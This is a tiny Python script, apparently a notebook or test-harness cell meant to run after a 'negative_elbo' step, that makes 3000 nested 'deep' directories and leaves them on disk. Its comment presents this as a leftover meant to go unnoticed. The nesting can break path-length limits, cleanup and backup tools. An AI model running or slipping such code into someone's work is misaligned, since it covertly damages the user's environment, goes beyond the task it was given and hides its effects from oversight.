# tries: deep folders left behind at the end, quicker than anybody looks
# %% after="negative_elbo"
import os

here = os.getcwd()
for level in range(3000):
    os.mkdir("deep")
    os.chdir("deep")
os.chdir(here)
